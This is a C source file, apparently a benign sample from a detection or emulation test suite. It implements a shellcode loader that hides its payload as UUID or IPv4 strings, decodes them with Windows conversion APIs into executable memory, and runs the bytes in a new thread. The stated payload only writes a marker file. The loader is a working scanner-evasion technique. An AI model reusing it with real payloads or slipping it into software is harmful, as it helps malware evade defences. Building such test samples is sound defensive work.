/*
 * loader.c - generality suite: a payload stored as harmless-looking strings (benign,
 * emulator-only; see ../../lineage-common/common.h).
 *
 * x64 build (UUIDS): the payload is a list of UUID strings in this program's data, turned back
 * into bytes with rpcrt4!UuidFromStringA, 16 bytes per call, into a block of an executable heap
 * (HeapCreate(HEAP_CREATE_ENABLE_EXECUTE) + HeapAlloc).
 * x86 build: a list of dotted IPv4 strings, turned back with ntdll!RtlIpv4StringToAddressA,
 * 4 bytes per call, into a new PAGE_EXECUTE_READWRITE allocation.
 * Either way the bytes run in a thread and write C:\Users\Public\lineage_strings.txt.
 * Exit codes: 0 ok, 1 no marker, 2 memory, 3 conversion, 4 thread.
 */
#include "common.h"
#include "strings.h"

#ifdef UUIDS
typedef LONG (WINAPI *UuidFromStringA_t)(const char *, void *);
#define COUNT PAYLOAD_COUNT
#define WIDTH 16
#else
typedef LONG (NTAPI *RtlIpv4StringToAddressA_t)(const char *, BOOLEAN, const char **, void *);
#define COUNT PAYLOAD_COUNT
#define WIDTH 4
#endif

void Entry(void)
{
    static struct sc_ctx ctx;
    unsigned char *mem;
    HANDLE thread;
    int i;
#ifdef UUIDS
    HANDLE heap;
    UuidFromStringA_t convert;
#else
    const char *end;
    RtlIpv4StringToAddressA_t convert;
#endif

    if (!marker_present())
        ExitProcess(1);
#ifdef UUIDS
    convert = (UuidFromStringA_t)(void *)GetProcAddress(LoadLibraryA("rpcrt4.dll"), "UuidFromStringA");
#else
    convert = (RtlIpv4StringToAddressA_t)(void *)GetProcAddress(GetModuleHandleA("ntdll.dll"), "RtlIpv4StringToAddressA");
#endif
    if (!convert)
        ExitProcess(3);
#ifdef UUIDS
    heap = HeapCreate(HEAP_CREATE_ENABLE_EXECUTE, 0, 0);
    mem = heap ? (unsigned char *)HeapAlloc(heap, 0, COUNT * WIDTH) : 0;
#else
    mem = (unsigned char *)VirtualAlloc(0, COUNT * WIDTH, MEM_COMMIT | MEM_RESERVE, PAGE_EXECUTE_READWRITE);
#endif
    if (!mem)
        ExitProcess(2);
    for (i = 0; i < COUNT; i++) {
#ifdef UUIDS
        if (convert(payload[i], mem + i * WIDTH) != 0)
#else
        if (convert(payload[i], TRUE, &end, mem + i * WIDTH) != 0)
#endif
            ExitProcess(3);
    }
    fill_ctx(&ctx, "C:\\Users\\Public\\lineage_strings.txt", "decoded from strings\n");
    thread = CreateThread(0, 0, (LPTHREAD_START_ROUTINE)(void *)mem, &ctx, 0, 0);
    if (!thread)
        ExitProcess(4);
    WaitForSingleObject(thread, INFINITE);
    ExitProcess(0);
}
